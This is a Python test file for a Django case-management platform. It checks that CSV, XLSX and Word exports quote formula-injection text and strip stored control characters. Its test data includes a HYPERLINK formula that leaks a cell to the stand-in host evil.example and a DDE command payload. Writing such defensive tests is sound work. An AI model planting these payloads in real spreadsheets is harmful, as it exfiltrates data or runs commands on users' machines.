"""Formula injection and stored control characters in every file the platform writes (issue 12): the workbench
XLSX and CSV, the weekly meeting's XLSX and Word pack. Text a person typed stays text; figures stay figures."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from docx import Document
from openpyxl import Workbook, load_workbook

from wenming.cases.models import Case
from wenming.cases.services import workflow as wf
from wenming.cases.tests.test_views import routed_grid
from wenming.common.tabular import csv_cell, csv_row, xlsx_row

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(autouse=True)
def _media_and_english(settings, tmp_path, client):
    settings.MEDIA_ROOT = tmp_path
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"


@pytest.mark.parametrize("text", [EVIL, "+1+1", "-5", "@SUM(A1)", "\t=1", "\r=1", "  =1+1", "=cmd|' /C calc'!A0"])
def test_text_that_a_spreadsheet_would_evaluate_is_quoted_in_csv(text):
    assert csv_cell(text) == f"'{text}"


def test_numbers_dates_and_ordinary_text_are_left_as_they_are():
    day = dt.date(2026, 11, 28)
    assert csv_row([5, -5, 1.5, Decimal("-2.50"), day, None, "人民路1号", "a-b", "5"]) == [
        5, -5, 1.5, Decimal("-2.50"), day, "", "人民路1号", "a-b", "5"]


def test_xlsx_cells_keep_text_as_inert_text_and_numbers_as_numbers():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(xlsx_row(sheet, [EVIL, "-5", -5, Decimal("2.5"), "占道\x0b经营\x01", None, "x"]))
    out = io.BytesIO()
    book.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue()))["x"].iter_rows())[0]
    assert [(c.value, c.data_type) for c in cells] == [
        (f"'{EVIL}", "s"), ("'-5", "s"), (-5, "n"), (2.5, "n"), ("占道经营", "s"), (None, "n"), ("x", "s")]


@pytest.fixture
def evil_case(people):
    grid = routed_grid("SJ0401", "CGJ-131102", "131102")
    case = wf.case_intake(channel="hotline", description="占道经营", lng=grid.lng, lat=grid.lat, category="SJ0401",
                          address=EVIL, actor=people["shouli"])
    return case


def test_the_workbench_csv_never_holds_a_live_formula(client, people, evil_case):
    client.force_login(people["zhiban"])
    response = client.get(reverse("cases:export", args=["csv"]), {"queue": "all", "q": evil_case.number})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[1][0] == evil_case.number
    assert rows[1][8] == f"'{EVIL}"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_workbench_xlsx_holds_the_address_as_text(client, people, evil_case):
    client.force_login(people["zhiban"])
    response = client.get(reverse("cases:export", args=["xlsx"]), {"queue": "all", "q": evil_case.number})
    sheet = load_workbook(io.BytesIO(response.content)).active
    address = list(sheet.iter_rows())[1][8]
    assert (address.value, address.data_type) == (f"'{EVIL}", "s")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_a_control_character_stored_before_input_was_cleaned_does_not_break_the_xlsx(client, people, evil_case):
    # \x01 rather than NUL: PostgreSQL could never have stored a NUL, SQLite could.
    Case.objects.filter(pk=evil_case.pk).update(address="人民路\x0b1号\x01")
    client.force_login(people["zhiban"])
    response = client.get(reverse("cases:export", args=["xlsx"]), {"queue": "all", "q": evil_case.number})
    assert response.status_code == 200
    assert list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))[1][8] == "人民路1号"


def test_the_meeting_pack_keeps_typed_text_as_text(people, media_and_english):
    from wenming.campaign.models import Campaign, Meeting, Task
    from wenming.campaign.services import tasks as svc
    from wenming.campaign.services.meetings import meeting_prepare
    from wenming.demo.campaign import campaign_demo_build
    from wenming.reports.meeting import meeting_docx, meeting_xlsx

    campaign_demo_build()
    campaign = Campaign.objects.get(code="HS-2022")
    now = timezone.now()
    meeting = meeting_prepare(campaign=campaign, week_start=timezone.localdate(now), actor=people["zhiban"], now=now)
    unit = Task.objects.get(campaign=campaign, code="R05-1").lead_unit
    svc.supervision_item_create(meeting_id=meeting.pk, actor=people["zhiban"], title=EVIL, owner_unit=unit,
                                due_on=timezone.localdate(now) + dt.timedelta(days=7))
    Meeting.objects.filter(pk=meeting.pk).update(minutes="会议\x01纪要", chair="张\x0b主任")
    meeting = Meeting.objects.get(pk=meeting.pk)
    sheet = load_workbook(io.BytesIO(meeting_xlsx(meeting)))["Decisions (supervision items)"]
    title = list(sheet.iter_rows())[1][1]
    assert (title.value, title.data_type) == (f"'{EVIL}", "s")
    doc = Document(io.BytesIO(meeting_docx(meeting)))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "会议纪要" in text and "张主任" in text
